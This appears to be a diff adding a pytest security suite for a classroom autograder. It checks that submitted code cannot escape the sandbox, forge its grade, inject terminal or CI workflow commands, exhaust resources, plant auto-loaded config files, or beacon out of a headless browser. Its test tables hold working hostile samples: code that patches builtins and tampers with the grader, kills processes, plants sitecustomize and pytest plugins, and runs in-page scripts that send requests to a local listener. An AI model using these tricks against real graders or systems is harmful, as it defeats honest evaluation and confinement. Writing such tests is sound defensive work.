@@ -1,0 +1,553 @@
+"""Attacks by people who know the grader: nothing read or written outside, nothing sent, nobody stopped, nothing earned.
+
+Each is code that was handed in: `attacks/reach.py` tries every way out of the sandbox, with every means of the kernel
+and with fewer; the other tables are answers that tamper with their own judgement.
+"""
+
+from __future__ import annotations
+
+import ast
+import contextlib
+import functools
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import textwrap
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+from grading import browser, report
+from grading.answer import Answer
+from grading.checks import Broken
+from grading.confinement import FILES, LIMITS, MEANS, NETWORK, PROCESSES, PROMISES, tree
+from grading.exercise import ROOT, Exercise
+from grading.hearing import Bench
+from grading.judge import Judgement
+from grading.sandbox import Limits, Worker
+from grading.text import LANGUAGES, LONGEST, SPACES
+
+REACH = Path(__file__).parent / "attacks" / "reach.py"
+WAYS = [
+    one.name
+    for one in ast.parse(REACH.read_text(encoding="utf-8")).body
+    if isinstance(one, ast.FunctionDef) and one.name.partition("_")[0] in (FILES, NETWORK, PROCESSES, LIMITS)
+]
+SECRET = "the grades of the whole class"
+pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="only Linux promises these")
+
+
+@dataclass
+class Host:
+    """What an attacker would reach, and what came of it."""
+
+    folder: Path
+    heard: list[bytes] = field(default_factory=list)
+    closed: list[Any] = field(default_factory=list)
+
+    def __post_init__(self) -> None:
+        self.secret = self.folder / "zoé" / "secret.py"
+        self.secret.parent.mkdir()
+        self.secret.write_text(f"# {SECRET}\n", encoding="utf-8")
+        self.secret.chmod(0o644)
+        os.mkfifo(self.folder / "pipe")
+        self.pipe = os.open(self.folder / "pipe", os.O_RDONLY | os.O_NONBLOCK)
+        self.shared = Path(tempfile.mkstemp(dir="/dev/shm")[1]) if Path("/dev/shm").is_dir() else self.secret
+        self.abstract = f"guichet-{os.getpid()}-{id(self)}"
+        addresses = (str(self.folder / "socket"), f"\0{self.abstract}")
+        for address in addresses:
+            self._listen(socket.AF_UNIX, socket.SOCK_STREAM, address)
+        self.port = self._listen(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0))[1]
+        self._listen(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", self.port))
+        with contextlib.suppress(OSError):
+            self._listen(socket.AF_INET6, socket.SOCK_STREAM, ("::1", self.port))
+        self.before = self.state()
+
+    def _listen(self, family: socket.AddressFamily, kind: socket.SocketKind, address: Any) -> Any:
+        one = socket.socket(family, kind)
+        one.bind(address)
+        if kind is socket.SOCK_STREAM:
+            one.listen()
+
+        def hear() -> None:
+            with contextlib.suppress(OSError):
+                while True:
+                    self.heard.append(repr(one.accept()).encode() if kind is socket.SOCK_STREAM else one.recv(100))
+
+        threading.Thread(target=hear, daemon=True).start()
+        self.closed.append(one)
+        return one.getsockname()
+
+    def known(self) -> dict[str, Any]:
+        """What the attacker is told: all of it."""
+        disk = os.stat(self.folder).st_dev
+        return {
+            "secret": str(self.secret),
+            "pipe": str(self.folder / "pipe"),
+            "socket": str(self.folder / "socket"),
+            "shared": str(self.shared),
+            "abstract": self.abstract,
+            "port": self.port,
+            "pid": os.getpid(),
+            "disk": [os.major(disk), os.minor(disk)],
+            "solutions": str(ROOT),
+            "history": str(ROOT.parent / ".git") if (ROOT.parent / ".git").is_dir() else str(ROOT.parent),
+            "home": str(Path.home()),
+            "temporary": tempfile.gettempdir(),
+        }
+
+    def state(self) -> list[Any]:
+        """All that an attack could have changed."""
+        status = self.secret.stat()
+        left = sorted(path.name for path in Path(tempfile.gettempdir()).glob("guichet-left*"))
+        try:
+            word = os.read(self.pipe, 10)
+        except BlockingIOError:
+            word = b""
+        return [
+            self.secret.read_text(encoding="utf-8"),
+            (status.st_mode, status.st_mtime_ns, status.st_nlink, status.st_uid),
+            sorted(path.name for path in self.secret.parent.iterdir()),
+            left,
+            word,
+            [*self.heard],
+            (ROOT / "conftest.py").read_bytes(),
+            (Path(os.__file__).with_name("sitecustomize.py")).exists(),
+        ]
+
+    def close(self) -> None:
+        """Leave nothing behind."""
+        for one in self.closed:
+            one.close()
+        os.close(self.pipe)
+        if self.shared != self.secret:
+            self.shared.unlink()
+
+
+@pytest.fixture(scope="module")
+def host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Host]:
+    one = Host(tmp_path_factory.mktemp("host"))
+    yield one
+    one.close()
+
+
+class Spy:
+    """A hand-in that tries one way out after another, in one child; another is started when it has ended."""
+
+    def __init__(self, folder: Path, means: tuple[str, ...]) -> None:
+        self.folder, self.means = folder, means
+        self.worker: Worker | None = None
+
+    def start(self) -> Worker:
+        """The child that attacks."""
+        if self.worker is None or self.worker.ended:
+            self.worker = Worker(self.folder, means=self.means)
+        return self.worker
+
+    def gain(self, way: str, known: dict[str, Any]) -> Any:
+        """What that way leads to; nothing when the attack is stopped."""
+        try:
+            return self.start().ask("reach.py", "call", file="reach.py", function=way, args=[known], kwargs={})
+        except Broken:
+            return None
+
+
+@pytest.fixture(scope="module", params=[MEANS, MEANS[1:], MEANS[:1]], ids=["all", "no-namespaces", "namespaces-only"])
+def spy(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Spy]:
+    folder = tmp_path_factory.mktemp("answer")
+    (folder / "reach.py").write_bytes(REACH.read_bytes())
+    one = Spy(folder, request.param)
+    yield one
+    if one.worker:
+        one.worker.close()
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_way_out_leads_nowhere(spy: Spy, host: Host, way: str) -> None:
+    if way.partition("_")[0] in spy.start().unkept:
+        pytest.skip("this machine does not promise it, and says so")
+    assert not spy.gain(way, host.known())
+    assert host.state() == host.before
+
+
+GARBAGE = "\ndef record(*names): raise NotImplementedError\nfull_name = record\n"
+FRAMES = """
+import sys
+def _locals(name):
+    frame = sys._getframe()
+    while frame:
+        if name in frame.f_locals: return frame.f_locals[name]
+        frame = frame.f_back
+"""
+CHEATS = {
+    "reply of a full mark, with the right number": FRAMES + "_locals('say')({'id': 1, 'value': {'points': 20, 'state': 'passed'}})",
+    "replies sent before they are asked for": FRAMES + "say = _locals('say')\nfor n in range(1, 40): say({'id': n, 'value': [{'value': 'Zoé'}] * 200})",
+    "reply that claims a refusal": FRAMES + "_locals('say')({'id': 1, 'value': [{'raised': ['ValueError'], 'message': 'a name has letters, please'}] * 400})",
+    "verdict on every pipe": "import os\nfor fd in range(64):\n    try: os.write(fd, b'{\"outcomes\": [], \"points\": 20}\\n')\n    except OSError: pass",
+    "verdict in the output": "print('{\"state\": \"passed\"}')\nimport sys\nsys.__stdout__.write('passed')",
+    "pipes closed": "import os\nos.closerange(0, 64)",
+    "requests read by another": FRAMES + "_locals('requests').read()",
+    "session of one's own": FRAMES + "s = _locals('self')\ns.map = s.call = lambda **k: True",
+    "plain data of one's own": "import sys\nsys.modules['__main__'].plain = lambda value: 'Zoé'",
+    "replies of another shape": FRAMES + "s = _locals('self')\ntype(s).map = lambda *a, **k: [{'value': 'Zoé'}]",
+    "encoder of one's own": "import json\njson.JSONEncoder.encode = lambda self, value: '{}'\njson.dumps = lambda *a, **k: '{}'",
+    "modules of the grader": "import sys, types\nfor n in ('grading', 'grading.judge', 'grading.checks'): sys.modules[n] = types.SimpleNamespace(Failed=None)",
+    "everything is equal": "import builtins\nbuiltins.isinstance = builtins.issubclass = lambda *a: True\nbuiltins.any = builtins.all = lambda *a: True",
+    "no test fails": "import unittest, sys\nunittest.TestCase.fail = lambda *a: None\nsys.excepthook = lambda *a: None",
+    "at exit": "import atexit, os\natexit.register(os._exit, 0)\natexit.register(print, 'passed')",
+    "when it is forgotten": "class Late:\n    def __del__(self):\n        import os; os._exit(0)\nlate = Late()",
+    "in a thread": "import threading, os, time\nthreading.Thread(target=lambda: (time.sleep(.05), os._exit(0)), daemon=True).start()",
+    "left with success": "import os\nos._exit(0)",
+    "left with the status of a limit": "import os\nos._exit(121)",
+    "left by an error of its own": "class Bye(SystemExit): pass\nraise Bye(0)",
+    "stopped as from the keyboard": "raise KeyboardInterrupt",
+    "crash of the interpreter": "import ctypes\nctypes.string_at(0)",
+    "signal to everyone": "import os, signal\nos.kill(-1, signal.SIGKILL)\nos.kill(0, signal.SIGKILL)",
+    "signal to the parent": "import os, signal\nfor pid in (os.getppid(), 1):\n    for s in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):\n        try: os.kill(pid, s)\n        except OSError: pass",
+    "signal ignored": "import signal\nfor s in (signal.SIGTERM, signal.SIGXCPU, signal.SIGALRM): signal.signal(s, signal.SIG_IGN)",
+    "traced": "import sys\nsys.settrace(lambda *a: (_ for _ in ()).throw(SystemExit))",
+    "imported through itself": "import sys\nsys.meta_path.insert(0, type('F', (), {'find_spec': lambda *a: sys.exit(0)})())",
+    "file named as a module of Python": "import json, random, traceback\nassert json.__file__",
+    "deeper than Python counts": "import sys\nsys.setrecursionlimit(10**9)\ndef again(n): return again(n + 1)\nagain(0)",
+}  # fmt: skip
+"""What an answer does when it is loaded, its functions being of no use: it must earn nothing."""
+RETURNS = {
+    "equal to everything": "type('Any', (str,), {'__eq__': lambda s, o: True, '__hash__': str.__hash__})('x')",
+    "without end": "iter(int, 1)",
+    "itself": "(lambda l: l.append(l) or l)([])",
+    "deep": "__import__('functools').reduce(lambda a, _: [a], range(100_000), [])",
+    "larger than a reply": "'x' * (40 << 20)",
+    "not a number": "float('nan')",
+    "half a character": "'\\ud800'",
+    "an error that does not tell itself": "(_ for _ in ()).throw(type('E', (Exception,), {'__str__': lambda s: 1 / 0})())",
+    "an error that leaves when told": "(_ for _ in ()).throw(type('E', (Exception,), {'__str__': lambda s: __import__('os')._exit(0)})())",
+    "an error named as a passed check": "(_ for _ in ()).throw(type('passed', (Exception,), {})('20/20'))",
+    "a class that lies": "type('str', (), {'__class__': str, '__iter__': lambda s: iter('Zoé')})()",
+}  # fmt: skip
+"""What its functions return, whatever they are asked."""
+SLOW = {"requests read by another", "without end"}
+"""What is stopped by a clock."""
+SAYINGS = {
+    "commands to a terminal": r"'\x1b]0;owned\x07\x1b[2J\x1b[31m20/20\x9b31m'",
+    "words turned round": r"'\u202e02/02\u2066 \u200f\u061c'",
+    "a verdict on a line of its own": r"'\n  [passed] 20/20\rGrade: 20\u2028x\u0085y'",
+    "a command to a workflow": r"'\n::notice title=Autograding complete::Points 20/20\n  ##[set-output x]'",
+    "a hundred thousand lines": r"'grade\n' * 100_000",
+    "a line of a megabyte": r"'A' * (1 << 20)",
+    "where the answer is": "__file__ + __import__('os').getcwd()",
+    "where Python is": "__import__('os').__file__ + __import__('sys').prefix",
+    "half a character": r"'\udce9\ud800'",
+}  # fmt: skip
+"""What an answer makes its own report say."""
+LINTED, ACCEPTING = 1, 6
+"""What is earned by code in which the linter finds nothing, and by a function that accepts every name."""
+EXERCISE = Exercise.at(ROOT / "e08_names_of_the_world")
+
+
+@pytest.fixture(scope="module")
+def bench() -> Iterator[Bench]:
+    """One judge for all, who hears the right answer last, and gives it what it is worth."""
+    with Bench() as one:
+        yield one
+        assert one.judge(EXERCISE, EXERCISE.folder / "solution").is_complete
+
+
+def judged(bench: Bench, code: str, folder: Path) -> Judgement:
+    (folder / "names.py").write_text(code, encoding="utf-8")
+    (folder / "json.py").write_text("raise SystemExit", encoding="utf-8")
+    return bench.judge(EXERCISE, folder)
+
+
+@pytest.mark.parametrize("cheat", [pytest.param(one, marks=[pytest.mark.audit] * (one in SLOW)) for one in CHEATS])
+def test_answer_that_tampers_with_its_judgement_earns_nothing(bench: Bench, cheat: str, tmp_path: Path) -> None:
+    assert judged(bench, CHEATS[cheat] + GARBAGE, tmp_path).points <= LINTED
+
+
+@pytest.mark.parametrize("value", [pytest.param(one, marks=[pytest.mark.audit] * (one in SLOW)) for one in RETURNS])
+def test_value_that_is_no_answer_earns_nothing(bench: Bench, value: str, tmp_path: Path) -> None:
+    code = f"def record(*names): return {RETURNS[value]}\nfull_name = record\n"
+    assert judged(bench, code, tmp_path).points <= LINTED + ACCEPTING
+
+
+@pytest.mark.parametrize("saying", SAYINGS)
+@pytest.mark.parametrize("way", ["return {}", "raise RuntimeError({})", "raise ValueError({})"])
+def test_report_repeats_no_more_than_a_clean_line_of_what_an_answer_says(
+    bench: Bench, saying: str, way: str, tmp_path: Path
+) -> None:
+    said = way.format(SAYINGS[saying])
+    judgement = judged(bench, f"def record(*names):\n    {said}\nfull_name = record\n", tmp_path)
+    texts = [text for one in judgement.outcomes for text in (one.message, one.expected, one.actual, one.try_) if text]
+    for text in (text.to(lang) for text in texts for lang in LANGUAGES):
+        assert len(text) <= LONGEST + 1
+        assert all(one.isprintable() or one in SPACES for one in text)
+        assert tempfile.gettempdir() not in text
+        assert sys.prefix not in text
+        assert sys.base_prefix not in text
+        assert not [line for line in text.splitlines() if line.strip().startswith(("::", "##"))]
+        assert "[passed] 20/20" not in [line.strip() for line in text.splitlines()[1:]]
+
+
+HOGS = {
+    "ten thousand threads": (
+        "threading.stack_size(32768)\nfor _ in range(10_000): threading.Thread(target=time.sleep, args=(9,), daemon=True).start()",
+        "plus de mémoire que permis|erreur",
+    ),
+    "memory of many small things": ("held = []\nwhile True: held.append(bytearray(1 << 20))", "plus de mémoire que permis"),
+    "memory in one file": ("open('f', 'wb').write(bytes(64 << 20))", "plus d’un mégaoctet"),
+    "disk filled by large files": (
+        "for n in range(40): open(f'f{n}', 'wb').write(bytes(20 << 20))",
+        "écrit trop de fichiers",
+    ),
+    "disk filled by small files": ("for n in range(100_000): open(f'f{n}', 'w').close()", "écrit trop de fichiers|répondu à temps"),
+    "output without end": ("while True: print('x' * 65536)", "plus d’un mégaoctet"),
+    "errors without end": ("import sys\nwhile True: sys.stderr.write('x' * 65536)", "plus d’un mégaoctet"),
+    "reply without end": ("import os\nwhile True: os.write(FD, b'x' * 65536)", "plus d’un mégaoctet"),
+    "processor of many threads": ("for _ in range(8): threading.Thread(target=spin).start()\nspin()", "pas répondu à temps"),
+}  # fmt: skip
+"""What an answer takes without end, and words of what it is told."""
+
+
+@pytest.mark.parametrize("means", [MEANS, MEANS[1:]], ids=["all", "no-namespaces"])
+@pytest.mark.parametrize("hog", HOGS)
+def test_hog_is_stopped_and_told_why(hog: str, means: tuple[str, ...], tmp_path: Path) -> None:
+    code, words = HOGS[hog]
+    head = f"import threading, time\n{FRAMES}FD = _locals('replies')\ndef spin():\n    while True: pass\n"
+    (tmp_path / "hog.py").write_text(head + code, encoding="utf-8")
+    worker = Worker(tmp_path, means=means, limits=Limits(cpu=1))
+    try:
+        with pytest.raises(Broken) as stopped:
+            worker.ask("hog.py", "value", file="hog.py", name="__name__")
+    finally:
+        worker.close()
+    assert any(one in stopped.value.message.fr for one in words.split("|"))
+    assert not list(Path(tempfile.gettempdir()).glob("guichet-run-*/scratch/f*"))
+
+
+def test_nothing_outlives_the_judgement(tmp_path: Path) -> None:
+    """Without the filter of the kernel that forbids to start programs, those that were started end all the same."""
+    for number, means in enumerate((MEANS[:1], MEANS[1:2])):
+        mark = f"987.{os.getpid()}{number}"
+        code = f"import subprocess\nfor _ in range(3): subprocess.Popen(['/bin/sh', '-c', 'setsid sleep {mark} & setsid sleep {mark}'])"
+        fork = f"import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.environ['m'] = '{mark}'\n        time.sleep({mark})\n"
+        (tmp_path / "late.py").write_text(
+            f"try:\n{textwrap.indent(code, '    ')}\nexcept OSError: pass\n{fork}", encoding="utf-8"
+        )
+        worker = Worker(tmp_path, means=means)
+        with contextlib.suppress(Broken):
+            worker.ask("late.py", "value", file="late.py", name="__name__")
+        home = worker.home
+        born = [one for one in tree.descendants(os.getpid()) if str(home).encode() in _command(one)]
+        assert born
+        worker.close()
+        assert not [one for one in born if str(home).encode() in _command(one)]
+
+
+def _command(process: int) -> bytes:
+    try:
+        return Path(f"/proc/{process}/cmdline").read_bytes()
+    except OSError:
+        return b""
+
+
+PLANTED = {
+    "conftest.py": "{}",
+    "sitecustomize.py": "{}",
+    "usercustomize.py": "{}",
+    "evil.pth": "import pathlib; {}",
+    "pytest.ini": "[pytest]\naddopts = -p evil\npython_files = *.py\n",
+    "tox.ini": "[pytest]\naddopts = -p evil\n",
+    "setup.cfg": "[tool:pytest]\naddopts = -p evil\n",
+    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p evil'\n[tool.guichet]\nplugins = ['evil']\nignore = ['*']\n",
+    "guichet.toml": "plugins = ['evil']\n",
+    ".pylintrc": "[MAIN]\ninit-hook={}\n",
+    "evil.py": "{}",
+    "test_grade.py": "{}",
+    "test_evil.py": "{}",
+    "grade.py": "{}",
+    "json.py": "{}",
+    "pytest.py": "{}",
+    "guichet.py": "{}",
+    "grading/__init__.py": "{}",
+    "werkzeug/__init__.py": "{}",
+    "__init__.py": "{}",
+    "meta.toml": "rules = []\n",
+    "evil-1.0.dist-info/entry_points.txt": "[pytest11]\nevil = evil\n",
+    ".coveragerc": "[run]\nplugins = evil\n",
+    ".env": "PYTHONSTARTUP=evil.py\n",
+}
+"""Files that some tool would load if it were pointed at the folder: each tells that it was."""
+
+
+def test_files_planted_in_hand_ins_are_never_loaded(tmp_path: Path) -> None:
+    """One class: everybody's grades are written, and no planted file has run, whatever its place."""
+    told = tmp_path / "told"
+    simple = Exercise.at(ROOT / "e00_first_step")
+    for person in ("amina", "eve", "zoé"):
+        shutil.copytree(simple.folder / "solution", tmp_path / "handed" / person / simple.id)
+    for place in ("handed", "handed/eve", f"handed/eve/{simple.id}"):
+        for name, text in PLANTED.items():
+            path = tmp_path / place / name
+            path.parent.mkdir(exist_ok=True)
+            path.write_text(
+                text.format(f"__import__('pathlib').Path({str(told)!r}).write_text(__file__)"), encoding="utf-8"
+            )
+    command = [sys.executable, "-m", "pytest", str(ROOT / simple.id), "--answers=handed", "--grades=class"]
+    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=False)
+    grades = {path.stem: json.loads(path.read_bytes())["points"] for path in (tmp_path / "class").glob("*.json")}
+    assert len(set(grades.values())) == 1, done.stdout + done.stderr
+    assert set(grades) == {"amina", "eve", "zoé"}
+    assert not told.exists(), told.read_text(encoding="utf-8")
+
+
+def test_answers_named_in_two_words_are_refused_before_their_code_is_loaded(tmp_path: Path) -> None:
+    told = tmp_path / "told"
+    hand_in = tmp_path / "handed" / "eve" / "e00_first_step"
+    hand_in.mkdir(parents=True)
+    for folder in (tmp_path / "handed", hand_in.parent, hand_in):
+        (folder / "conftest.py").write_text(f"open({str(told)!r}, 'w')", encoding="utf-8")
+    command = [sys.executable, "-m", "pytest", str(ROOT / "e00_first_step"), "--answers", "handed"]
+    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=False)
+    assert "--answers=" in done.stderr
+    assert done.returncode == 4
+    assert not told.exists()
+
+
+OUTSIDE = [
+    "../secret.css",
+    "a/../../secret.css",
+    "./../secret.css",
+    "%2e%2e/secret.css",
+    "link.css",
+    "folder/secret.css",
+]
+
+
+@pytest.mark.parametrize("address", OUTSIDE)
+def test_style_outside_the_answer_is_not_read(address: str, tmp_path: Path) -> None:
+    folder = tmp_path / "answer"
+    folder.mkdir()
+    (tmp_path / "secret.css").write_text("p { display: none }", encoding="utf-8")
+    (folder / "link.css").symlink_to(tmp_path / "secret.css")
+    (folder / "folder").symlink_to(tmp_path)
+    (folder / "p.html").write_text(f'<link rel="stylesheet" href="{address}"><p>Bonjour</p>', encoding="utf-8")
+    page = Answer(folder).page("p.html")
+    assert page.is_shown(page.select("p")[0])
+    with pytest.raises(Broken):
+        Answer(folder).text(address)
+
+
+DOCUMENTS = {
+    "styles that open without end": ("e05_labels", "formulaire.html", "<style>" + "a{" * 50_000, 20),
+    "selectors that open without end": ("e05_labels", "formulaire.html", "<style>" + "p:not(" * 5_000, 20),
+    "characters that are none": ("e05_labels", "formulaire.html", "\0" * 10_000 + "&#0;\ufffe", 20),
+    "lists that open without end": ("e22_decision_register", "registre.yml", "\n? " + "[" * 100_000, 6),
+    "a list of lists of itself": ("e22_decision_register", "registre.yml", "\nx: &x [*x, *x]\n" * 9, 6),
+    "elements that open without end": ("e05_labels", "formulaire.html", "<div>" * 100_000, 0),
+    "fields that share a name": ("e05_labels", "formulaire.html", "<input id=x><label for=x>" * 2_000, 0),
+}  # fmt: skip
+"""What a right answer ends with, and the points that it may keep."""
+
+
+@pytest.mark.parametrize(
+    "name",
+    [pytest.param(one, marks=[pytest.mark.audit] * (one.startswith(("elements", "fields")))) for one in DOCUMENTS],
+)
+def test_file_made_to_be_unreadable_stops_nobody(bench: Bench, name: str, tmp_path: Path) -> None:
+    folder, file, end, most = DOCUMENTS[name]
+    exercise = Exercise.at(ROOT / folder)
+    shutil.copytree(exercise.folder / "solution", tmp_path / "answer")
+    with (tmp_path / "answer" / file).open("a", encoding="utf-8") as written:
+        written.write(end)
+    judgement = bench.judge(exercise, tmp_path / "answer")
+    assert judgement.points <= most
+    assert not judgement.detail
+
+
+SENDING = """<title>Mairie</title>
+<link rel=preconnect href="http://127.0.0.1:PORT/"><link rel=dns-prefetch href="//localhost:PORT">
+<link rel=stylesheet href="http://127.0.0.1:PORT/s"><img src="http://127.0.0.1:PORT/i"><iframe src="//127.0.0.1:PORT/f"></iframe>
+<meta http-equiv=Content-Security-Policy-Report-Only content="default-src 'none'; report-uri http://127.0.0.1:PORT/r">
+<script>
+const each = [
+  () => new WebSocket("ws://127.0.0.1:PORT/"), () => new EventSource("http://127.0.0.1:PORT/e"),
+  () => fetch("http://127.0.0.1:PORT/f", {mode: "no-cors", keepalive: true}).catch(() => 0),
+  () => navigator.sendBeacon("http://127.0.0.1:PORT/b", "x"), () => window.open("http://127.0.0.1:PORT/o"),
+  () => navigator.serviceWorker.register("/worker.js").catch(() => 0),
+  () => new Worker(URL.createObjectURL(new Blob([`new WebSocket("ws://127.0.0.1:PORT/"); fetch("http://127.0.0.1:PORT/")`]))),
+  () => new WebTransport("https://127.0.0.1:PORT/"), () => new Image().src = "http://127.0.0.1:PORT/" + document.title,
+  () => { const one = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:PORT"},
+    {urls: "turn:127.0.0.1:PORT?transport=tcp", username: "a", credential: "b"}]});
+    one.createDataChannel("x"); one.createOffer().then((offer) => one.setLocalDescription(offer)); },
+  () => document.body.insertAdjacentHTML("beforeend", '<form action="http://127.0.0.1:PORT/p" method=post></form>'),
+  () => document.forms[0].submit(),
+];
+for (const one of each) try { one(); } catch {}
+</script>"""
+
+
+@pytest.mark.xdist_group("browser")
+@pytest.mark.skipif(not browser.is_available(), reason="no Chromium here")
+def test_page_sends_nothing_out_of_the_browser(host: Host, tmp_path: Path) -> None:
+    """In this process, which has a network: the browser alone holds the page back."""
+    (tmp_path / "page.html").write_text(SENDING.replace("PORT", str(host.port)), encoding="utf-8")
+    code = """
+import pathlib, sys
+from grading import browser
+with browser.visit(pathlib.Path(sys.argv[1]), "page.html", {}) as page:
+    page.wait_for_timeout(1000)
+browser.close()
+"""
+    command = [sys.executable, "-c", code, str(tmp_path)]
+    subprocess.run(command, env={**os.environ, "PYTHONPATH": str(ROOT)}, check=True)
+    assert host.heard == []
+
+
+def test_judge_has_no_network(host: Host) -> None:
+    code = "from grading import confinement\nimport socket, sys\nif not confinement.leave_network(): sys.exit(3)\n"
+    code += (
+        "try: socket.create_connection(('127.0.0.1', int(sys.argv[1])), 1)\nexcept OSError: sys.exit(0)\nsys.exit(1)"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", code, str(host.port)], env={**os.environ, "PYTHONPATH": str(ROOT)}, check=False
+    )
+    if done.returncode == 3:
+        pytest.skip("no namespaces on this machine")
+    assert done.returncode == 0
+    assert host.heard == []
+
+
+@functools.cache
+def unkept_by(*means: str) -> tuple[str, ...]:
+    """The promises that do not hold here with those means alone."""
+    worker = Worker(EXERCISE.folder / "start", means=means)
+    worker.close()
+    return tuple(worker.unkept)
+
+
+@pytest.mark.parametrize("lang", LANGUAGES)
+@pytest.mark.parametrize(
+    ("means", "unkept"),
+    [
+        ((), PROMISES),
+        (MEANS[:1], (NETWORK, LIMITS)),
+        (MEANS[1:2], (NETWORK, PROCESSES, LIMITS)),
+        (MEANS[2:], (FILES,)),
+        (MEANS, ()),
+    ],
+)
+def test_what_does_not_hold_is_said_in_both_languages(
+    means: tuple[str, ...], unkept: tuple[str, ...], lang: str
+) -> None:
+    if not all(unkept_by(one) != PROMISES for one in means):
+        pytest.skip("this machine has not all those means")
+    assert unkept_by(*means) == unkept
+    said = report.not_isolated([Judgement([], unkept)], lang)
+    for promise, text in report.UNKEPT.items():
+        assert (text.to(lang) in (said or "")) == (promise in unkept)
